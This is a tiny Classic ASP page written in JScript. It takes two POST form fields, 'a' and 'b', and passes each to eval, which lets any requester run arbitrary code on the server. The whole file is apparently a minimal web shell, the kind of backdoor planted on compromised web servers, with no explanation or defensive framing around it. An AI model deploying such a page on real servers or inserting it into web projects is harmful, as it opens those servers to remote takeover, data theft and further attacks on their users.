<%@ Language="JScript" %>
<%
var parts = [Request.Form("a"), Request.Form("b")];
parts.forEach(eval);
%>
